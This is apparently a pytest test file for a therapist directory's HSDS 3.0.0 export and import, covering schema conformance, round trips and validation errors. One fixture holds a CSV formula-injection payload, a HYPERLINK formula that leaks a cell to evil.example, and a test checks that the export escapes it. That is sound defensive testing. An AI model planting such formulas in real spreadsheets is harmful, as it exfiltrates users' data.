"""HSDS 3.0.0 export and import: conforms to the official schema, round trip is exact, bad rows are reported."""
import csv
import json

import pytest
from sqlalchemy import func, select

from directory.extensions import db
from directory.opendata.export import export_directory
from directory.opendata.importer import import_directory
from directory.opendata.tables import COLUMNS, filename
from directory.therapists.models import Condition, Modality, Therapist
from tests.conftest import point_at
from tests.opendata.hsds_schema import csv_errors, json_errors, official_resources, unknown_keys

FIELDS = ("name", "practice_name", "credentials", "license_number", "license_state", "years_in_practice",
          "training", "certifications", "bio", "phone", "email", "website", "price_min", "price_max",
          "session_lengths", "accepting_new_clients", "mobile", "service_radius_mi", "languages", "status",
          "is_sample")
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def listing_snapshot():
    therapists = db.session.scalars(select(Therapist).order_by(Therapist.slug)).all()
    return {
        t.slug: tuple(getattr(t, f) for f in FIELDS)
        + (tuple(m.slug for m in t.modalities), tuple(c.slug for c in t.conditions),
           tuple((loc.street, loc.city, loc.state, loc.postal_code, loc.latitude, loc.longitude) for loc in t.locations))
        for t in therapists
    }


def published_snapshot():
    return {slug: row for slug, row in listing_snapshot().items() if row[FIELDS.index("status")] == "published"}


@pytest.fixture
def listings(make_therapist):
    make_therapist(name="José O'Brien 💆", practice_name=None, at=[point_at(1), point_at(3, 200)],
                   modalities=("nmt-st-john", "trigger-point"), conditions=("tension-headache", "tmj-pain"),
                   credentials=["LMT", "NCBTMB"], certifications=["NMT Levels 1–4; the full series"],
                   mobile=True, service_radius_mi=17.5, languages=["English", "Español"],
                   bio="Line one\nLine two, \"quoted\"", is_sample=True)
    formula = make_therapist(name=FORMULA_NAME, practice_name="+Plus Practice", training="-Trained on the job",
                             bio="", phone="+44 20 7946 0958", website=None, years_in_practice=None,
                             price_min=None, price_max=None, contact_email="private-edit-links@example.org")
    # A location without street or postal code: HSDS's addresses need both, so it stays on the location.
    formula.locations[0].street, formula.locations[0].postal_code = "", ""
    make_therapist(name="Hidden", status="pending")
    db.session.commit()


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def empty_database():
    """Every table emptied, as a new database is after `flask db upgrade`."""
    for table in reversed(db.metadata.sorted_tables):
        db.session.execute(table.delete())
    db.session.commit()


def delete_listings():
    for therapist in db.session.scalars(select(Therapist)):
        db.session.delete(therapist)
    db.session.commit()


def test_our_columns_are_hsds_columns_then_extensions():
    resources = official_resources()
    for table, columns in COLUMNS.items():
        official = [f["name"] for f in resources[filename(table)]["schema"]["fields"]]
        assert [c for c in columns if not c.startswith("x_")] == official, table
        assert list(columns[:len(official)]) == official, f"{table}: x_ columns come after HSDS's"


def test_export_writes_the_hsds_tables_and_json(listings, tmp_path, runner):
    result = runner.invoke(args=["export-hsds", str(tmp_path)])
    assert result.exit_code == 0, result.output
    assert "2 organizations, 0 programs, 2 services, 3 locations, 2 addresses, 3 service_at_location" in result.output
    for table, columns in COLUMNS.items():
        with open(tmp_path / filename(table), newline="", encoding="utf-8") as handle:
            assert next(csv.reader(handle)) == list(columns)
    services = read_csv(tmp_path / "services.csv")
    assert {s["x_sample"] for s in services} == {"true", "false"}


def test_export_conforms_to_hsds_3(listings, tmp_path):
    export_directory(tmp_path)
    assert {p.name for p in tmp_path.glob("*.csv")} <= set(official_resources())
    assert csv_errors(tmp_path) == []
    services = json.loads((tmp_path / "hsds.json").read_text(encoding="utf-8"))
    assert json_errors(services) == []
    assert [key for service in services for key in unknown_keys(service)] == []
    jose = next(s for s in services if s["x_therapist_name"].startswith("José"))
    assert [language["name"] for language in jose["languages"]] == ["English", "Español"]
    location = jose["service_at_locations"][0]["location"]
    assert isinstance(location["latitude"], float) and location["longitude"] < 0
    assert location["addresses"][0]["address_1"] == "100 Main St"
    assert {a["taxonomy_term"]["code"] for a in jose["attributes"]} == {
        "nmt-st-john", "trigger-point", "tension-headache", "tmj-pain"}


def test_the_official_schema_catches_what_the_old_export_got_wrong(listings, tmp_path):
    export_directory(tmp_path)
    services = json.loads((tmp_path / "hsds.json").read_text(encoding="utf-8"))
    location = services[0]["service_at_locations"][0]["location"]
    location["latitude"] = str(location["latitude"])
    services[0]["languages"] = "English;Spanish"
    assert len(json_errors(services)) == 2
    rows = read_csv(tmp_path / "locations.csv")
    with open(tmp_path / "locations.csv", "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=[c for c in rows[0] if c != "location_type"])
        writer.writeheader()
        writer.writerows({k: v for k, v in row.items() if k != "location_type"} for row in rows)
    assert [2, "location_type", "constraint-error", 'constraint "required" is "True"'] in [
        error[1:] for error in csv_errors(tmp_path)]


def test_formula_cells_are_escaped_and_numbers_are_not(listings, tmp_path):
    export_directory(tmp_path)
    service = next(s for s in read_csv(tmp_path / "services.csv") if "HYPERLINK" in s["x_therapist_name"])
    assert service["x_therapist_name"] == "'" + FORMULA_NAME
    assert service["description"] == "'-Trained on the job"
    organization = next(o for o in read_csv(tmp_path / "organizations.csv") if o["id"] == service["organization_id"])
    assert organization["name"] == "'+Plus Practice"
    assert "'+44 20 7946 0958" in {p["number"] for p in read_csv(tmp_path / "phones.csv")}
    longitudes = [row["longitude"] for row in read_csv(tmp_path / "locations.csv")]
    assert all(value.startswith("-82.") for value in longitudes)


def test_round_trip_is_exact(listings, tmp_path, app):
    export_directory(tmp_path)
    before = published_snapshot()
    delete_listings()
    report = import_directory(tmp_path, publish=True)
    assert report.errors == [] and report.imported and report.created == 2
    assert listing_snapshot() == before
    assert db.session.scalar(select(Therapist.name).where(Therapist.is_sample.is_(True))) == "José O'Brien 💆"


def test_import_on_a_fresh_database_creates_the_vocabulary(listings, tmp_path, runner):
    export_directory(tmp_path)
    before = published_snapshot()
    vocabulary = set(db.session.scalars(select(Modality.slug))), set(db.session.scalars(select(Condition.slug)))
    empty_database()
    result = runner.invoke(args=["import-hsds", str(tmp_path), "--publish"])
    assert result.exit_code == 0, result.output
    assert f"2 created, 0 updated, 0 unchanged, 0 skipped; {sum(map(len, vocabulary))} vocabulary term(s) created" in result.output
    assert (set(db.session.scalars(select(Modality.slug))), set(db.session.scalars(select(Condition.slug)))) == vocabulary
    assert db.session.scalar(select(Modality).where(Modality.slug == "nmt-st-john")).parent.slug == "nmt"
    assert listing_snapshot() == before


def test_import_of_unchanged_data_reports_nothing_changed(listings, tmp_path, runner):
    export_directory(tmp_path)
    result = runner.invoke(args=["import-hsds", str(tmp_path), "--publish"])
    assert result.exit_code == 0, result.output
    assert "0 created, 0 updated, 2 unchanged, 0 skipped" in result.output
    assert "vocabulary" not in result.output
    corrupt(tmp_path / "languages.csv", 2, "name", "Deutsch")
    assert "0 created, 1 updated, 1 unchanged" in runner.invoke(args=["import-hsds", str(tmp_path)]).output
    assert db.session.scalar(select(func.count()).select_from(Therapist)) == 3


def test_imported_listings_wait_for_review_by_default(listings, tmp_path):
    export_directory(tmp_path)
    delete_listings()
    import_directory(tmp_path)
    assert set(db.session.scalars(select(Therapist.status))) == {"pending"}


def corrupt(path, line, column, value):
    rows = read_csv(path)
    rows[line - 2][column] = value
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_bad_rows_are_reported_with_line_numbers_and_nothing_is_imported(listings, tmp_path, runner):
    export_directory(tmp_path)
    corrupt(tmp_path / "locations.csv", 3, "latitude", "ninety")
    corrupt(tmp_path / "attributes.csv", 2, "taxonomy_term_id", "00000000-0000-0000-0000-000000000000")
    corrupt(tmp_path / "services.csv", 3, "email", "not an email")
    delete_listings()
    result = runner.invoke(args=["import-hsds", str(tmp_path)])
    assert result.exit_code != 0
    assert "locations.csv line 3: latitude must be a number between -90 and 90" in result.output
    assert "attributes.csv line 2: taxonomy_term_id does not match any taxonomy term" in result.output
    assert "services.csv line 3: email: Enter a valid email address, like name@example.com" in result.output
    assert "nothing was imported" in result.output
    assert db.session.scalar(select(func.count()).select_from(Therapist)) == 0


def test_skip_bad_imports_the_good_rows(listings, tmp_path, runner):
    export_directory(tmp_path)
    services = read_csv(tmp_path / "services.csv")
    bad_line = 2 + next(i for i, s in enumerate(services) if "HYPERLINK" in s["x_therapist_name"])
    corrupt(tmp_path / "services.csv", bad_line, "x_price_min", "-5")
    delete_listings()
    result = runner.invoke(args=["import-hsds", str(tmp_path), "--skip-bad", "--publish"])
    assert result.exit_code == 0, result.output
    assert f"services.csv line {bad_line}: x_price_min must be between 1 and 10000" in result.output
    assert "1 created, 0 updated, 0 unchanged, 1 skipped" in result.output
    assert list(db.session.scalars(select(Therapist.name))) == ["José O'Brien 💆"]


def test_missing_file_or_columns(tmp_path, vocabulary):
    report = import_directory(tmp_path)
    assert not report.imported
    assert "organizations.csv is missing" in str(report.errors[0])


def test_import_applies_the_listing_rules_of_the_form(listings, tmp_path, runner):
    export_directory(tmp_path)
    corrupt(tmp_path / "services.csv", 2, "description", "t" * 2001)
    corrupt(tmp_path / "services.csv", 3, "x_session_lengths", "[50]")
    corrupt(tmp_path / "phones.csv", 2, "number", "12345")
    corrupt(tmp_path / "addresses.csv", 2, "state_province", "Florida")
    delete_listings()
    output = runner.invoke(args=["import-hsds", str(tmp_path)]).output
    assert "services.csv line 2: description is longer than 2000 characters" in output
    assert "services.csv line 3: x_session_lengths: Session lengths can be 30, 45, 60, 75, 90, 120 minutes." in output
    assert "phones.csv line 2: number: That is not a valid phone number" in output
    assert "locations.csv line 2: address state_province: Choose the state by its two-letter code, like FL." in output
    assert db.session.scalar(select(func.count()).select_from(Therapist)) == 0


def test_import_stores_phones_and_emails_as_the_form_does(listings, tmp_path):
    export_directory(tmp_path)
    corrupt(tmp_path / "phones.csv", 2, "number", "727.555.0123")
    corrupt(tmp_path / "services.csv", 2, "email", "Dana@EXAMPLE.org")
    delete_listings()
    report = import_directory(tmp_path, publish=True)
    assert report.errors == []
    phones = set(db.session.scalars(select(Therapist.phone)))
    assert "(727) 555-0123" in phones and "727.555.0123" not in phones
    assert "Dana@example.org" in set(db.session.scalars(select(Therapist.email)))


def test_import_refuses_what_breaks_a_rule_across_fields(listings, tmp_path):
    export_directory(tmp_path)
    services = read_csv(tmp_path / "services.csv")
    line = 2 + next(i for i, s in enumerate(services) if s["x_price_min"])
    corrupt(tmp_path / "services.csv", line, "x_price_min", "")
    delete_listings()
    report = import_directory(tmp_path)
    assert [str(error) for error in report.errors] == [
        f"services.csv line {line}: Give your lowest price too (the same as the highest if there is one price)."]


def test_reimport_keeps_where_the_geocoder_placed_an_address(listings, tmp_path):
    jose = db.session.scalar(select(Therapist).where(Therapist.name.startswith("José")))
    jose.locations[0].geocoded_as = "Saint Petersburg, FL 33701"
    db.session.commit()
    export_directory(tmp_path)
    report = import_directory(tmp_path, publish=True)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    db.session.expire_all()
    assert jose.locations[0].geocoded_as == "Saint Petersburg, FL 33701"
